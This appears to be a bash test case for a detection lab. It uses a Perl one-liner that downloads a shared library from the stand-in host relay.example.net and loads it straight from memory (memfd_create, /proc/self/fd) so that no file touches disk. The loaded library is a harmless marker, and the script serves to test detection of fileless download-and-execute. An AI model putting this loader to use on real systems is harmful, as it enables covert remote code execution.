#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=perl far=out seconds=16 parts=dns,outside-web
# Perl fetches a library into memory that has no name in any folder and loads it into itself from there.
# shellcheck disable=SC2016 # perl has its own variables
if [ "$1" = out ]; then
	mkdir -p "$LAB/outside/drop"; printf '%s\n' '#include <stdio.h>' '#include <stdlib.h>' 'static void __attribute__((constructor)) begin(void) { char n[200]; snprintf(n, 200, "%s/ran", getenv("LAB")); FILE *f = fopen(n, "w"); fputs("loaded", f); fclose(f); }' >"$LAB/lib.c"
	gcc -shared -fPIC -o "$LAB/outside/drop/lib.so" "$LAB/lib.c"; sleep 18; exit 0
fi
sleep 3; timeout 12 perl -MIO::Socket::INET -MDynaLoader -e '$s = IO::Socket::INET->new("relay.example.net:80"); print $s "GET /drop/lib.so HTTP/1.0\r\n\r\n"; local $/; $d = <$s>; $d =~ s/^.*?\r\n\r\n//s;
$fd = syscall(319, my $name = "x", 0); open($m, "+<&=", $fd); syswrite($m, $d); DynaLoader::dl_load_file("/proc/self/fd/$fd", 0) or die DynaLoader::dl_error(); sleep 6'; grep -q loaded "$LAB/ran"
